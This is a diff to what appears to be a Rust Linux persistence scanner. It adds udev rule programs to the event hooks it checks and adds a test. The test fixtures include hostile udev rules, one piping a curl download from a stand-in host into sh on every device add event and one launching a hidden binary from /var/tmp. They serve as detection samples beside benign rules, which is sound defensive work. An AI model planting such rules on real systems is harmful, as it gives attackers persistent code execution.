@@ -8,9 +8,9 @@
 //!   from a temporary or hidden path; an init script named by a family marker (line 0 = the whole file).
 //! - `MT-PER-030` the same in a shell start-up file: it runs at every login.
 //! - `MT-PER-031` the same in an event hook: `update-motd.d` scripts, APT hook commands, initramfs hooks,
-//!   network hooks and XDG autostart entries (kinds `Motd`, `AptHook`, `Initramfs`, `NetworkHook`,
-//!   `Autostart`): each runs at an event the owner does not watch (a login, an `apt update`, a new
-//!   kernel, a link coming up).
+//!   network hooks, XDG autostart entries and the programs of udev rules (kinds `Motd`, `AptHook`,
+//!   `Initramfs`, `NetworkHook`, `Autostart`, `Udev`): each runs at an event the owner does not watch (a
+//!   login, an `apt update`, a new kernel, a link coming up, a device event — every boot replays those).
 //!
 //! History tampering and `LD_PRELOAD` lines in these files are reported by `history` and `preload`.
 
@@ -63,6 +63,7 @@ pub fn is_event_hook(kind: PersistenceKind) -> bool {
             | PersistenceKind::Initramfs
             | PersistenceKind::NetworkHook
             | PersistenceKind::Autostart
+            | PersistenceKind::Udev
     )
 }
 
@@ -160,6 +161,48 @@ mod tests {
         );
         assert!(
             found.iter().all(|(_, _, s)| *s >= Severity::High),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn udev_rule_programs_are_judged_as_hooks_and_device_tuning_is_not() {
+        let found = hooks(vec![
+            (
+                // A kit's rule in the vendor directory: every boot's add event runs a download into a shell.
+                b"/usr/lib/udev/rules.d/75-net-tune.rules",
+                b"# tune\nACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.9.2/u.sh | sh'\"\n",
+            ),
+            (
+                b"/etc/udev/rules.d/99-zz.rules",
+                b"ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/bin/sh -c '/var/tmp/.font-unix/kudevd &'\"\n",
+            ),
+            (
+                // An admin's and a vendor's rules: scheduler tuning, a backup unit, the distribution's dmsetup.
+                b"/etc/udev/rules.d/60-scheduler.rules",
+                b"ACTION==\"add|change\", KERNEL==\"sd[a-z]\", RUN+=\"/bin/sh -c 'echo mq-deadline > /sys/block/%k/queue/scheduler'\"\n\
+                  ACTION==\"add\", ENV{ID_FS_LABEL}==\"BACKUP\", RUN+=\"/usr/bin/systemd-run --no-block /usr/local/sbin/usb-backup %k\"\n",
+            ),
+            (
+                b"/usr/lib/udev/rules.d/95-dm-notify.rules",
+                b"ENV{DM_COOKIE}==\"?*\", RUN+=\"/sbin/dmsetup udevcomplete $env{DM_COOKIE}\"\nTAG==\"uaccess\", RUN{builtin}+=\"uaccess\"\n",
+            ),
+        ]);
+        let at: Vec<(&str, u32)> = found.iter().map(|(p, l, _)| (p.as_str(), *l)).collect();
+        assert_eq!(
+            at,
+            vec![
+                ("/etc/udev/rules.d/99-zz.rules", 1),
+                ("/usr/lib/udev/rules.d/75-net-tune.rules", 2),
+            ],
+            "{found:?}"
+        );
+        // The download into a shell is high; a hidden temp program alone is as an rc line's would be.
+        assert!(found
+            .iter()
+            .any(|(p, _, s)| p.ends_with("75-net-tune.rules") && *s >= Severity::High));
+        assert!(
+            found.iter().all(|(_, _, s)| *s >= Severity::Medium),
             "{found:?}"
         );
     }
